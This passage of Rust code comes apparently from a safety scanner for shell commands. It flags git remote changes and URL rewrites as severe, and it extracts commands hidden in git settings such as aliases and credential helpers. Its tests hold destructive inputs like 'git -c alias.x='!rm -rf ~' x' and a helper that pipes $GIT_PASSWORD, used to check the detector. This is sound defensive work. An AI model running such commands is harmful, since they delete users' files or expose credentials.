        )
    } else if let Some(rest) = lower.strip_prefix("url.") {
        let Some(base) = rest
            .strip_suffix(".insteadof")
            .or_else(|| rest.strip_suffix(".pushinsteadof"))
        else {
            return false;
        };
        // The base as written (its case kept): where the rewritten addresses go.
        let base = key.get(4..4 + base.len()).unwrap_or(base).to_string();
        (
            String::new(),
            base.clone(),
            format!(
                "rewrite every address starting {value} to {base}, where pushes and fetches go"
            ),
        )
    } else {
        return false;
    };
    let mut names = vec![name];
    if let Some(host) = url_host(&url) {
        names.extend(host_names(&host));
    }
    names.retain(|n| !n.is_empty());
    scan.add(
        Risk::new(RuleId::GitRemoteChange, Harm::Severe, true, reason)
            .wish(Wish::new(Act::Update).naming(Name::AnyOf(names))),
    );
    true
}

fn remote(args: &[String], scan: &mut Scan<'_>) {
    let words = positional(args);
    let Some(action) = words.first() else { return };
    if !matches!(*action, "add" | "set-url") {
        return;
    }
    let name = words.get(1).copied().unwrap_or("");
    let url = words.get(2).copied().unwrap_or("");
    let mut names = vec![name.to_lowercase()];
    if let Some(host) = url_host(url) {
        names.extend(host_names(&host));
    }
    names.retain(|n| !n.is_empty());
    let verb = if *action == "add" {
        "add the remote"
    } else {
        "point the remote"
    };
    let to = if url.is_empty() {
        String::new()
    } else {
        format!(" at {url}")
    };
    scan.add(
        Risk::new(
            RuleId::GitRemoteChange,
            Harm::Severe,
            true,
            format!("{verb} {name}{to}, where pushes go"),
        )
        .wish(Wish::new(Act::Update).naming(Name::AnyOf(names))),
    );
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::Line;

    fn run(line: &str) -> Vec<String> {
        Line::parse(line)
            .commands
            .iter()
            .flat_map(settings_run)
            .collect()
    }

    #[test]
    fn settings_that_run_are_sorted_and_lower_case() {
        for pair in RUNS_SETTINGS.windows(2) {
            if let [a, b] = pair {
                assert!(a < b, "{a:?} must come before {b:?}");
            }
        }
        for (section, name) in RUNS_SETTINGS {
            assert_eq!(section.to_ascii_lowercase(), *section);
            assert_eq!(name.to_ascii_lowercase(), *name);
        }
    }

    #[test]
    fn the_settings_git_runs_are_read() {
        for (line, want) in [
            ("git -c alias.x='!rm -rf ~' x", vec!["rm -rf ~"]),
            ("git -c core.sshCommand='ssh -i k' fetch", vec!["ssh -i k"]),
            (
                "git -C repo -c diff.pdf.textconv=pdftotext diff",
                vec!["pdftotext"],
            ),
            (
                "git -c credential.https://h.example.helper='!f() { id; }; f' push",
                vec!["echo \"$GIT_PASSWORD\" | { f() { id; }; f\n}"],
            ),
            (
                "git config --local alias.nuke '!rm -rf ~'",
                vec!["rm -rf ~"],
            ),
            ("git config set core.pager 'less -R'", vec!["less -R"]),
            (
                "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.editor GIT_CONFIG_VALUE_0=ed git commit",
                vec!["ed"],
            ),
        ] {
            assert_eq!(run(line), want, "{line}");
        }
        for line in [
            "git -c color.ui=always log",
            "git -c alias.st=status st",
            "git -c core.fsmonitor=true status",
            "git -c pager.branch=false branch",
            "git -c credential.helper=store push",
            "git config --get core.pager",
            "git config core.pager",
            "git config --unset core.pager x",
            "git log -c core.pager=x",
        ] {
            assert!(run(line).is_empty(), "{line}: {:?}", run(line));
        }
    }
}
